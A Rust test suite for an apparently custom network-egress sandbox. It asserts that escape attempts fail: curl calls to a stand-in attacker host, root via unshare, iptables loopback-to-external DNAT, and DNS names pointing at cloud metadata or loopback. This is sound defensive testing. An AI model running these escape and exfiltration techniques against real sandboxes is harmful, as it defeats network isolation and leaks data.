//! Ways out that were found before, carried out again.

use crate::job::{Job, end};
use lab::{BOX, EVIL, Inside, Lab, Launch, METADATA, NEIGHBOUR, OK, PYTHON, need, until};
use nix::sys::signal::Signal;
use std::{fs, net::IpAddr, time::Duration};

const SOON: Duration = Duration::from_secs(10);

/// Programs and links, as the kernel numbers them.
fn programs(lab: &Lab) -> Vec<String> {
    let now = lab.snapshot();
    let lines = now.lines("program ").into_iter().chain(now.lines("link ")).chain(now.lines("device_"));
    lines.map(str::to_owned).collect()
}

/// Runs the ways out in a live sandbox and looks at what is left of it.
fn escapes(lab: &Lab, name: &str, run: Launch<'_>, become_root: &str) {
    let token = lab.token(name);
    let mut inside = Inside::start(run.flags("--allow ok.test"));
    inside.ask(&format!("curl -fsS -m3 http://ok.test/{token}-first")).exits(0);
    let before = programs(lab);
    assert!(before.len() >= 13, "{before:#?}");
    let script = lab.file("escape.sh", include_str!("../probes/escape.sh"));
    let parent = lab.caller().path().display();
    let (pins, state) = (lab.pin_dir(), lab.state_dir());
    let agent = inside.running().pid();
    let output = inside.ask(&format!(
        "{become_root} sh {} {EVIL} {token} {} {} {parent} {agent}",
        script.display(),
        pins.display(),
        state.display()
    ));
    assert_eq!(output.step("done"), 0, "{name}: {output}");
    let through: Vec<_> =
        output.stdout.lines().filter(|line| line.starts_with("after-") && line.ends_with("=0")).collect();
    assert!(through.is_empty(), "{name}: {through:?}");
    for step in ["parent-cgroup", "agents-netns", "signal-agent", "trace-agent", "become-root"] {
        assert_ne!(output.step(step), 0, "{name}: {step}: {output}");
    }
    assert_eq!(programs(lab), before, "{name}: programs and links are as they were: {output}");
    assert!(inside.running().is_alive(), "{name}: egressd lives");
    inside.ask(&format!("curl -fsS -m3 http://ok.test/{token}-last")).exits(0);
    inside.ask(&format!("curl -sS -m3 http://{EVIL}/{token}")).exits(7);
    inside.end().exits(0);
    lab.expect_hits(&format!("{token}-first"), 1);
    lab.expect_hits(&format!("{token}-last"), 1);
    lab.expect_silence(EVIL);
    assert!(lab.zone().queries_for("evil.test").is_empty());
}

#[test]
fn t16_root_inside_tries_to_get_out() {
    for tool in ["bpftool", "tc", "nft", "iptables", "nsenter", "dig"] {
        need(tool);
    }
    // Root of the host's is no level, and is not tried: what it breaks would be this machine.
    let cases: [(&str, bool, &str); 4] = [
        ("user", false, ""),
        ("user-root", false, "unshare -U -r -m -n"),
        ("own-netns-user", true, ""),
        ("own-netns-root", true, "unshare -U -r -m"),
    ];
    std::thread::scope(|scope| {
        for (name, own_netns, become_root) in cases {
            scope.spawn(move || {
                let lab = Lab::new();
                let before = lab.snapshot();
                let run = lab.egressd("run");
                escapes(&lab, name, if own_netns { run.entering(lab.box_ns()) } else { run }, become_root);
                assert_eq!(before.diff(&lab.snapshot()), Vec::<String>::new(), "{name}");
                let token = lab.token("control");
                lab.unconfined(&format!("curl -fsS -m3 http://{EVIL}/{token}")).exits(0);
                lab.expect_hits(&token, 1);
            });
        }
    });
}

/// Serves HTTP in the box, outside of every sandbox, and counts the requests that carry a token.
struct Server {
    _inside: Inside,
    log: std::path::PathBuf,
}

impl Server {
    fn start(lab: &Lab, name: &str, port: u16) -> Self {
        let log = lab.work_dir().join(format!("{name}.log"));
        let mut inside = Inside::beside(lab);
        inside.ask(&format!("{PYTHON} -I -u -m http.server {port} > {} 2>&1 < /dev/null &", log.display())).exits(0);
        until(SOON, "the server is up", || fs::read_to_string(&log).is_ok_and(|said| said.contains("Serving")));
        Self { _inside: inside, log }
    }

    fn got(&self, token: &str) -> usize {
        fs::read_to_string(&self.log).unwrap().matches(&format!("/{token} ")).count()
    }
}

/// A route that makes a foreign address local, as a transparent proxy needs it, puts its packets on the loopback device.
#[test]
fn a_forbidden_address_on_the_loopback_device_is_forbidden() {
    let lab = Lab::new();
    let server = Server::start(&lab, "tproxy", 8080);
    lab.box_ns().ip(&format!("route add local {EVIL}/32 dev lo"));
    for (shape, run) in lab.shapes() {
        let token = lab.token(shape);
        run.flags("--allow ok.test").sh(&format!("curl -sS -m2 http://{EVIL}:8080/{token}")).output().exits(7);
        assert_eq!(server.got(&token), 0, "{shape}");
    }
    for (shape, run) in lab.shapes() {
        let token = lab.token(&format!("allowed-{shape}"));
        run.flags(&format!("--allow {EVIL}")).sh(&format!("curl -sS -m2 http://{EVIL}:8080/{token}")).output();
        assert_eq!(server.got(&token), 1, "{shape}");
    }
    let control = lab.token("control");
    lab.unconfined(&format!("curl -sS -m2 http://{EVIL}:8080/{control}"));
    assert_eq!(server.got(&control), 1);
    lab.expect_silence(EVIL);
}

/// A socket that was connected to an allowed address, then listens: nobody is named as welcome, that address neither.
#[test]
fn a_listener_that_was_connected_once_answers_nobody() {
    const PROBE: &str = "import ctypes, socket, sys
sock = socket.socket()
sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
sock.bind(('0.0.0.0', 7000))
sock.connect((sys.argv[1], 80))
libc = ctypes.CDLL(None, use_errno=True)
unspec = bytes(16)
assert libc.connect(sock.fileno(), unspec, 16) == 0
sock.listen()
print('listening', flush=True)
while True:
    peer, _ = sock.accept()
    peer.sendall(b'HTTP/1.1 200 OK\\r\\nContent-Length: 0\\r\\n\\r\\n')
    peer.close()";
    let lab = Lab::new();
    let file = lab.file("listen.py", PROBE);
    let knock = |from: IpAddr| lab.sink_ns().sh(&format!("curl -sS -m1 --interface {from} http://{BOX}:7000/")).code;
    for (shape, run) in lab.shapes() {
        let mut running =
            run.flags(&format!("--allow {OK}")).sh(&format!("exec {PYTHON} -I {} {OK}", file.display())).spawn();
        running.says("listening", SOON);
        for from in [EVIL, OK] {
            assert_ne!(knock(from), Some(0), "{shape}: {from}");
        }
        // Killed, it would leave its device enforced.
        end(running, Signal::SIGTERM).exits(143);
    }
    lab.expect_silence(EVIL);
    let mut host = Inside::beside(&lab);
    let id = host.begin(&format!("timeout 5 {PYTHON} -I {} {OK} 2>&1", file.display()));
    until(SOON, "the same script answers without egressd", || [EVIL, OK].map(knock) == [Some(0); 2]);
    host.answer(id).exits(124);
}

/// What the host translates behind loopback, as a NodePort does, was not asked for by a name in the policy.
#[test]
fn a_translation_of_loopback_opens_nothing() {
    need("iptables");
    let lab = Lab::new();
    let rules = format!(
        "echo 1 > /proc/sys/net/ipv4/conf/all/route_localnet
iptables -t nat -A OUTPUT -d 127.0.0.1 -p tcp --dport 30080 -j DNAT --to {EVIL}:80
iptables -t nat -A OUTPUT -d {BOX} -p tcp --dport 30080 -j DNAT --to {EVIL}:80
iptables -t nat -A OUTPUT -d 203.0.113.50 -p tcp -j DNAT --to {EVIL}:80
iptables -t nat -A POSTROUTING -d {EVIL} -p tcp -j SNAT --to {BOX}"
    );
    lab.box_ns().sh(&format!("set -e\n{rules}")).exits(0);
    let urls = ["127.0.0.1:30080", "198.51.100.30:30080", "203.0.113.50:8080"];
    let closed = lab.token("closed");
    // The box's own address and one port of the service are named; neither is what the packet is for.
    for flags in ["", "--allow 203.0.113.50:80", "--allow 203.0.113.50:8081 --allow 203.0.113.51"] {
        let fetch = |(at, url)| format!("curl -sS -m2 http://{url}/{closed}; echo u{at}=$?");
        let script = urls.iter().enumerate().map(fetch).collect::<Vec<_>>().join("\n");
        let output = lab.sh(flags, &script);
        for (at, url) in urls.iter().enumerate() {
            assert_ne!(output.step(&format!("u{at}")), 0, "{flags}: {url}: {output}");
        }
    }
    lab.expect_silence(EVIL);
    let asked = lab.token("asked");
    lab.sh("--allow 203.0.113.50:8080", &format!("curl -fsS -m3 http://203.0.113.50:8080/{asked}")).exits(0);
    lab.expect_hits(&asked, 1);
    for url in urls {
        let control = lab.token(&format!("control-{url}"));
        lab.unconfined(&format!("curl -fsS -m3 http://{url}/{control}")).exits(0);
        lab.expect_hits(&control, 1);
    }
}

/// Whatever a name answers, it opens no address that names may not have.
#[test]
fn a_name_opens_no_metadata_no_loopback_and_no_own_address() {
    let lab = Lab::new();
    let server = Server::start(&lab, "own", 8080);
    let places: [(&str, &str); 8] = [
        ("n0.lab.test", "169.254.169.254"),
        ("n1.lab.test", "127.0.0.1"),
        ("n2.lab.test", "198.51.100.30"),
        ("n3.lab.test", "2001:db8::30"),
        ("n4.lab.test", "::1"),
        ("n5.lab.test", "::ffff:169.254.169.254"),
        ("n6.lab.test", "198.51.100.53"),
        ("n7.lab.test", "fe80::2"),
    ];
    for (name, address) in places {
        lab.zone().put(name, lab::Entry::at(&[address]));
    }
    let text =
        "version = 1\n[allow]\nloopback = false\nnames = [\"*.lab.test:1-65535/tcp\"]\n[dns]\nanswers = \"any\"\n";
    let policy = lab.file("any.toml", text);
    let job = Job::new(&lab, "job");
    let attach = crate::job::ready(job.attach("").arg("--policy").arg(&policy));
    let closed = lab.token("closed");
    for (name, address) in places {
        let host = if address.contains(':') { format!("[{address}]") } else { address.to_owned() };
        for port in [80, 8080] {
            let by_name = job.sh(&format!("curl -sS -m2 http://{name}:{port}/{closed}"));
            assert!(matches!(by_name.code, Some(6 | 7)), "{name}:{port} {by_name}");
            let by_address = job.sh(&format!("curl -sS -m2 'http://{host}:{port}/{closed}'"));
            assert_eq!(by_address.code, Some(7), "{address}:{port} {by_address}");
        }
    }
    assert_eq!((server.got(&closed), lab.hits(&closed).len()), (0, 0));
    for silent in [METADATA, NEIGHBOUR, "fe80::2".parse::<IpAddr>().unwrap()] {
        lab.expect_silence(silent);
    }
    assert_eq!(job.curl("good.lab.test:8080", &lab.token("good")), Some(0));
    lab.expect_hits(&lab.token("good"), 1);
    end(attach, Signal::SIGINT).exits(0);
    let control = lab.token("control");
    lab.unconfined(&format!("curl -sS -m2 http://{BOX}:8080/{control}; curl -sS -m2 http://127.0.0.1:8080/{control}; curl -sS -m2 http://{METADATA}/{control}"));
    assert_eq!((server.got(&control), lab.hits(&control).len()), (2, 1));
}
